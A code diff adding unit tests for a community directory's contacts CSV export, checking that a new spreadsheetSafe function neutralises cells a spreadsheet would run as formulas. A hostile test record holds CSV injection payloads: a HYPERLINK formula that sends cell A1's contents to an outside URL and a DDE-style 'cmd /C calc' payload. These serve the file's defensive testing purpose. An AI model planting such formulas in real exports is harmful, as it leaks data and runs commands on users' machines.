@@ -9,7 +9,7 @@ import { createTranslator } from '../../src/lib/i18n';
 import { indexContent } from '../../src/lib/site-index';
 import type { PageContext } from '../../src/lib/view-models/common';
 import { activeActors, actorsForExport, contactFacts } from '../../src/lib/exports/contact-facts';
-import { CSV_COLUMNS, contactsCsv } from '../../src/lib/exports/contacts-csv';
+import { CSV_COLUMNS, contactsCsv, spreadsheetSafe } from '../../src/lib/exports/contacts-csv';
 import { hsdsOrganizations, hsdsTaxonomyTerms } from '../../src/lib/exports/hsds';
 import { datasetDocument } from '../../src/lib/exports/json-export';
 import { jsonDatasets, jsonSchemaOf } from '../../src/lib/exports/json-schemas';
@@ -98,6 +98,54 @@ describe('the contacts CSV', () => {
       vahvistettu: '2026-01-15',
       sivu: 'https://hyvinvointipuu.example/vimpeli/toimijat/spr/',
     });
+  });
+
+  test('puts an apostrophe before a cell a spreadsheet would run as a formula, and leaves other cells as they are', () => {
+    expect(['=1+1', '+358401112222', '-2+3', '@SUM(A1)', '\tx', '\rx'].map(spreadsheetSafe)).toEqual([
+      "'=1+1",
+      "'+358401112222",
+      "'-2+3",
+      "'@SUM(A1)",
+      "'\tx",
+      "'\rx",
+    ]);
+    expect(['', 'Kylä "Mäki"', 'Ala-Kylä', 'a=b', ' =1'].map(spreadsheetSafe)).toEqual([
+      '',
+      'Kylä "Mäki"',
+      'Ala-Kylä',
+      'a=b',
+      ' =1',
+    ]);
+  });
+
+  test('carries a hostile name and address into the file as text a spreadsheet does not run', () => {
+    const ctx = context();
+    ctx.index = indexContent({
+      ...siteContent(),
+      actors: [
+        ...siteContent().actors,
+        {
+          id: 'alajarvi/hyokkaaja',
+          data: actorSchema.parse({
+            name: '=HYPERLINK("https://example.com/?"&A1,"Avaa")',
+            alternateName: "@SUM(1+1)*cmd|' /C calc'!A0",
+            kind: 'association',
+            branches: ['liikunta'],
+            description: 'Kuvaus.',
+            address: { street: '-2+3+cmd', postalCode: '62900', city: '+Alajärvi' },
+            verified: '2025-05-02',
+          }),
+        },
+      ],
+    });
+    const row = csvRecords(ctx).find((record) => record['tunniste'] === 'alajarvi/hyokkaaja')!;
+    expect(row['nimi']).toBe('\'=HYPERLINK("https://example.com/?"&A1,"Avaa")');
+    expect(row['muu nimi']).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(row['katuosoite']).toBe("'-2+3+cmd");
+    expect(row['postitoimipaikka']).toBe("'+Alajärvi");
+    // No cell of the whole file, parsed back, begins with a character that starts a formula.
+    const cells = csvRecords(ctx).flatMap((record) => Object.values(record));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 
   test('starts with a byte order mark and ends rows with CRLF, as spreadsheet programs expect', () => {
